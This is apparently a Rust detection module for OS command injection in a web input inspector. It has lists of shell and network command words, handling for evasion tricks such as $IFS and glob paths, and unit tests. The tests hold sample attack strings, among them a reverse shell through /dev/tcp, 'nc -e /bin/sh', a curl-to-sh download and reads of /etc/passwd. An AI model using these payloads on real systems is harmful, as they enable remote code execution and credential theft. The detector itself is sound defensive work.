//! OS command injection: shell grammar rather than payload lists. A command separator
//! (`;`, `|`, `||`, `&`, `&&`, newline) or a substitution (`` ` ``, `$(`, `<(`) followed by a
//! command word, after removing what shells ignore inside a word (quotes, backslashes, `$@`,
//! empty `${x}`) and the `$IFS` space substitute. Command words common in prose (`cat`, `id`,
//! `type`) also need something that looks like an argument (a flag, a path, a redirection).

use super::subject::{class, gate, Hit, Needs, Subject, Tables};

/// Commands with no ordinary-language meaning: reaching one after a separator is enough.
const STRONG: &[&[u8]] = &[
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"tcsh",
    b"dash",
    b"busybox",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"lua",
    b"node",
    b"nslookup",
    b"dig",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"systeminfo",
    b"tasklist",
    b"taskkill",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"cscript",
    b"wscript",
    b"chmod",
    b"chown",
    b"passwd",
    b"useradd",
    b"usermod",
    b"crontab",
    b"telnet",
    b"ssh",
    b"scp",
    b"tftp",
    b"socat",
    b"xterm",
    b"nohup",
    b"xxd",
    b"awk",
    b"gawk",
    b"nmap",
    b"tcpdump",
    b"iptables",
    b"sudo",
    b"printenv",
    b"lsof",
    b"hostname",
    b"ifup",
    b"getent",
    b"lastlog",
    b"lastlogin",
    b"net",
    b"reg",
    b"schtasks",
    b"sc",
    b"vssadmin",
    b"bcdedit",
    b"icacls",
    b"cacls",
    b"nltest",
    b"whoami.exe",
    b"cmd.exe",
    b"powershell.exe",
    b"env",
    b"unset",
    b"export",
    b"sed",
    b"base64",
    b"md5sum",
    b"sha1sum",
    b"od",
    b"strings",
    b"dd",
    b"mkfifo",
    b"mknod",
    b"pkill",
    b"killall",
    b"iex",
    b"iwr",
    b"irm",
    b"invoke-webrequest",
    b"invoke-expression",
    b"invoke-restmethod",
    b"start-process",
    b"new-object",
    b"invoke-command",
    b"set-executionpolicy",
];

/// Commands that are also words: they need an argument-looking follower.
const WEAK: &[&[u8]] = &[
    b"cat",
    b"ls",
    b"id",
    b"echo",
    b"sleep",
    b"ping",
    b"kill",
    b"sort",
    b"find",
    b"more",
    b"head",
    b"tail",
    b"type",
    b"dir",
    b"set",
    b"who",
    b"w",
    b"last",
    b"less",
    b"touch",
    b"rm",
    b"mv",
    b"cp",
    b"mkdir",
    b"rmdir",
    b"cd",
    b"pwd",
    b"ps",
    b"top",
    b"date",
    b"time",
    b"tee",
    b"grep",
    b"tar",
    b"zip",
    b"unzip",
    b"gzip",
    b"xargs",
    b"exec",
    b"eval",
    b"source",
    b"test",
    b"timeout",
    b"wait",
    b"uptime",
    b"df",
    b"du",
    b"free",
    b"file",
    b"stat",
    b"chdir",
    b"copy",
    b"del",
    b"move",
    b"ver",
    b"vol",
    b"print",
    b"start",
    b"call",
    b"exit",
    b"ln",
    b"nl",
    b"rev",
    b"tac",
    b"cut",
    b"diff",
    b"which",
    b"whereis",
    b"locate",
    b"mail",
    b"history",
    b"logout",
    b"shutdown",
    b"reboot",
    b"halt",
    b"mount",
    b"umount",
    b"ssh-keygen",
    b"openssl",
    b"git",
    b"svn",
    b"apt",
    b"yum",
    b"pip",
    b"npm",
    b"java",
    b"gcc",
    b"make",
    b"vi",
    b"vim",
    b"nano",
];

fn command_class(word: &[u8]) -> Option<bool> {
    let base = word
        .rsplit(|c| *c == b'/' || *c == b'\\')
        .next()
        .unwrap_or(word);
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    if STRONG.contains(&base) {
        Some(true)
    } else if WEAK.contains(&base) {
        Some(false)
    } else {
        None
    }
}

/// A command word read after a separator.
struct Word {
    end: usize,
    text: [u8; 32],
    len: usize,
    evasion: bool,
}

fn read_word(b: &[u8], mut i: usize) -> Word {
    let mut evasion = false;
    // Leading noise a shell ignores before a command (bounded: each separator reads one word).
    let noise_end = b.len().min(i + 64);
    loop {
        while i < noise_end && (b[i].is_ascii_whitespace() || matches!(b[i], b'{' | b'(' | b'!')) {
            i += 1;
        }
        if let Some(n) = ifs_at(b, i) {
            i += n;
            evasion = true;
            continue;
        }
        break;
    }
    let mut text = [0u8; 32];
    let mut len = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_whitespace()
            || matches!(
                c,
                b';' | b'|' | b'&' | b'`' | b')' | b'(' | b'<' | b'>' | b',' | b'}'
            )
        {
            break;
        }
        match c {
            b'\'' | b'"' | b'\\' | b'^' => {
                evasion |= len > 0 || c == b'\\';
                i += 1;
                continue;
            }
            b'$' => {
                if b.get(i + 1) == Some(&b'(') {
                    break;
                }
                if matches!(b.get(i + 1), Some(b'@' | b'*' | b'0'..=b'9')) {
                    evasion = true;
                    i += 2;
                    continue;
                }
                if let Some(n) = ifs_at(b, i) {
                    evasion = true;
                    i += n;
                    break;
                }
                if b.get(i + 1) == Some(&b'{') {
                    if let Some(e) = memchr::memchr(b'}', &b[i..(i + 40).min(b.len())]) {
                        evasion = true;
                        i += e + 1;
                        continue;
                    }
                }
            }
            _ => {}
        }
        if len < text.len() {
            text[len] = c;
            len += 1;
        }
        i += 1;
    }
    Word {
        end: i,
        text,
        len,
        evasion,
    }
}

/// `$IFS`, `${IFS}`, `$IFS$9` at `i`: its length.
fn ifs_at(b: &[u8], i: usize) -> Option<usize> {
    let rest = b.get(i..)?;
    let n = if rest.starts_with(b"${ifs}") {
        6
    } else if rest.starts_with(b"$ifs") {
        4
    } else {
        return None;
    };
    let extra = if rest.get(n) == Some(&b'$') && rest.get(n + 1).is_some_and(u8::is_ascii_digit) {
        2
    } else {
        0
    };
    Some(n + extra)
}

/// Whether what follows a weak command looks like shell arguments rather than prose.
fn argument_follows(b: &[u8], i: usize, substitution: bool) -> bool {
    let mut j = i;
    while j < b.len() && matches!(b[j], b' ' | b'\t') {
        j += 1;
    }
    if ifs_at(b, i).is_some() {
        return true;
    }
    match b.get(j) {
        None => j == i || substitution || i == b.len(),
        Some(c) => {
            matches!(
                c,
                b'-' | b'/'
                    | b'.'
                    | b'$'
                    | b'~'
                    | b'>'
                    | b'<'
                    | b'|'
                    | b';'
                    | b'&'
                    | b'`'
                    | b'\''
                    | b'"'
                    | b'%'
                    | b'\\'
                    | b'*'
                    | b','
                    | b'\n'
                    | b'\r'
            ) || c.is_ascii_digit()
                || (c.is_ascii_alphabetic() && b.get(j + 1) == Some(&b':'))
                || (*c == b')' && substitution)
                || (*c == b'(' && j > 0 && b[j - 1] == b'$')
        }
    }
}

/// Byte classes that separate or substitute commands.
const SEPARATORS: u32 = class::SEMI
    | class::PIPE
    | class::AMP
    | class::BACKTICK
    | class::DOLLAR
    | class::NEWLINE
    | class::BRACE;

/// What `detect` needs to fire (see [`Needs`]): a separator or substitution, `$IFS`, a
/// shell path; from paranoia 2 anything (a bare command line).
pub(crate) fn needs() -> Needs {
    Needs::classes(SEPARATORS | class::DOLLAR)
        .or_gates(gate::IFS | gate::SHELL_PATH)
        .always_from(2)
}

/// Finds command injection in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.gate(gate::IFS) {
        if let Some(p) =
            memchr::memmem::find(b, b"$ifs").or_else(|| memchr::memmem::find(b, b"${ifs}"))
        {
            return Some(Hit::new("cmdi.shell_evasion", p, p + 6));
        }
    }
    if s.gate(gate::SHELL_PATH) {
        if let Some(h) = shell_paths(b) {
            return Some(h);
        }
    }
    if s.paranoia >= 2 || s.has(SEPARATORS) {
        if let Some(h) = chains(b, s.paranoia) {
            return Some(h);
        }
    }
    None
}

fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
    let mut i = 0;
    let check_start = paranoia >= 2;
    if check_start {
        if let Some(h) = command_at(b, 0, 0, false, true) {
            return Some(h);
        }
    }
    while i < b.len() {
        let c = b[i];
        let (after, substitution) = match c {
            b';' | b'\n' | b'\r' => (i + 1, false),
            b'|' | b'&' => (i + if b.get(i + 1) == Some(&c) { 2 } else { 1 }, false),
            b'`' => (i + 1, true),
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
            // Brace expansion `{cat,/etc/passwd}` runs its first word.
            b'{' if brace_command(b, i + 1) => (i + 1, false),
            _ => {
                i += 1;
                continue;
            }
        };
        if let Some(h) = command_at(b, i, after, substitution, false) {
            return Some(h);
        }
        i = after.max(i + 1);
    }
    None
}

fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) -> Option<Hit> {
    let w = read_word(b, at);
    if w.len == 0 {
        return None;
    }
    let word = &w.text[..w.len];
    let hit = |rule| Some(Hit::new(rule, sep, w.end.max(sep + 1)));
    // Glob in a path: `/???/c?t`, `/bin/ca*`.
    if word.starts_with(b"/") && word.iter().any(|c| matches!(c, b'?' | b'*')) && word.len() > 3 {
        return hit("cmdi.shell_evasion");
    }
    let class = command_class(word)?;
    let args = argument_follows(b, w.end, substitution);
    if start {
        // Paranoia 2: a whole value that is a command line.
        return (class && args && w.end < b.len())
            .then(|| Hit::new("cmdi.command_chain", 0, w.end));
    }
    let closed = substitution && matches!(b.get(w.end), Some(b'`' | b')'));
    if w.evasion && (class || args) {
        return hit("cmdi.shell_evasion");
    }
    if class || args || closed {
        return hit(if substitution {
            "cmdi.substitution"
        } else {
            "cmdi.command_chain"
        });
    }
    None
}

fn brace_command(b: &[u8], i: usize) -> bool {
    if !b
        .get(i)
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'/')
    {
        return false;
    }
    let w = read_word(b, i);
    w.len > 0 && b.get(w.end) == Some(&b',')
}

/// Shell binaries by path and reverse-shell devices anywhere in the value.
fn shell_paths(b: &[u8]) -> Option<Hit> {
    for needle in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
        if let Some(p) = memchr::memmem::find(b, needle) {
            return Some(Hit::new("cmdi.shell_path", p, p + needle.len()));
        }
    }
    for needle in [&b"/bin/"[..], b"/sbin/"] {
        for p in memchr::memmem::find_iter(b, needle) {
            let w = read_word(b, p + needle.len());
            if command_class(&w.text[..w.len]).is_some() {
                let from = p.saturating_sub(256);
                let start = b[from..p]
                    .iter()
                    .rposition(|c| !c.is_ascii_alphanumeric() && *c != b'/' && *c != b'_')
                    .map_or(from, |x| from + x + 1);
                // The path must start the value or follow something a shell would run it after.
                let standalone = start == 0
                    || matches!(
                        b[start - 1],
                        b' ' | b'\t'
                            | b';'
                            | b'|'
                            | b'&'
                            | b'`'
                            | b'('
                            | b'\''
                            | b'"'
                            | b'='
                            | b'\n'
                            | b'{'
                            | b','
                    );
                if standalone {
                    return Some(Hit::new("cmdi.shell_path", start, w.end));
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    #[test]
    fn attacks() {
        for a in [
            "; cat /etc/passwd",
            "x | whoami",
            "127.0.0.1 && ping -c 10 evil.example",
            "`id`",
            "$(uname -a)",
            "a;c${IFS}at${IFS}/etc/passwd",
            "x;w'h'o'am'i",
            "x;/???/??t /???/p??s??",
            "foo\ncurl http://evil.example/x|sh",
            "|| nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "a & dir c:\\",
            "{cat,/etc/passwd}",
            ";lastlogin -u admin",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
    }

    #[test]
    fn prose_passes() {
        for b in [
            "Tom & Jerry",
            "I love cats; cat lovers unite",
            "rock|paper|scissors",
            "Q&A session; see you there",
            "echo chamber; find out more",
            "Use `cat file` to print",
            "Price: $(5.00)",
            "AT&T; id rather not",
            "one; two; three",
            "the /bin directory",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }
}
